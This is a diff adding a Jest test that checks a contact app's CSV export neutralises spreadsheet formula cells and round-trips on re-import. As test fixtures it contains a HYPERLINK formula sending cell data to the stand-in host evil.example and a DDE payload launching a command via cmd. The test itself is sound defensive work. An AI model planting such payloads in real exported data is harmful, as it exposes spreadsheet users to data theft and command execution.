@@ -121,6 +121,64 @@ describe('CSV import and export', () => {
     expect(t.store.tags.list(bob?.id ?? '')).toEqual(['welcomed']);
   });
 
+  it('neutralises formula cells in the export, keeps negative scores as numbers, and imports back exactly', async () => {
+    const hyperlink = '=HYPERLINK("http://evil.example/?d="&A1,"Click")';
+    const dde = "+cmd|' /C calc'!A0";
+    const { contact } = t.store.contacts.upsertByIdentity({
+      email: '-ann@example.com',
+      externalId: hyperlink,
+    });
+    t.store.tags.add(contact.id, dde);
+    t.store.tags.add(contact.id, 'lead');
+    t.store.lists.add(contact.id, '@SUM(1+9)');
+    t.store.scores.set(contact.id, 'SCORE', -5);
+    const { contact: bob } = t.store.contacts.upsertByIdentity({
+      email: 'bob@example.com',
+      externalId: "'=kept",
+    });
+    t.store.tags.add(bob.id, '-1+2');
+    t.store.scores.set(bob.id, 'SCORE', 12);
+
+    const exported = await request(app).get('/api/contacts/export.csv').expect(200);
+    const cells = parse(exported.text) as string[][];
+    expect(cells[1]).toEqual([
+      "'-ann@example.com",
+      `'${hyperlink}`,
+      '{}',
+      `'${dde};lead`,
+      "'@SUM(1+9)",
+      '',
+      '-5',
+    ]);
+    expect(cells[2]).toEqual(['bob@example.com', "''=kept", '{}', "'-1+2", '', '', '12']);
+    for (const cell of cells.flat().filter((c) => c !== '-5')) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+
+    // Imported into an empty installation, the file gives back the same contacts and the same file.
+    const other = await createTestRuntime();
+    try {
+      const otherApp = asAdmin(
+        createApp({ store: other.store, logger: pino({ level: 'silent' }) }),
+        other.store,
+      );
+      const res = await request(otherApp)
+        .post('/api/contacts/import')
+        .set('content-type', 'text/csv')
+        .send(exported.text)
+        .expect(200);
+      expect(res.body).toMatchObject({ imported: 2, created: 2, failed: 0 });
+      const ann = other.store.contacts.findByEmail('-ann@example.com');
+      expect(ann?.externalId).toBe(hyperlink);
+      expect(other.store.tags.list(ann?.id ?? '')).toEqual([dde, 'lead'].sort());
+      expect(other.store.lists.list(ann?.id ?? '')).toEqual(['@SUM(1+9)']);
+      expect(other.store.scores.get(ann?.id ?? '', 'SCORE')).toBe(-5);
+      expect(other.store.contacts.findByEmail('bob@example.com')?.externalId).toBe("'=kept");
+      const again = await request(otherApp).get('/api/contacts/export.csv').expect(200);
+      expect(again.text).toBe(exported.text);
+    } finally {
+      await other.close();
+    }
+  });
+
   it('takes text/csv only, and stops at broken CSV saying how many rows were kept', async () => {
     await request(app).post('/api/contacts/import').send({ email: 'a@b.example' }).expect(415);
     const res = await importCsv('email\nok@example.com\n"unterminated@example.com\n').expect(400);
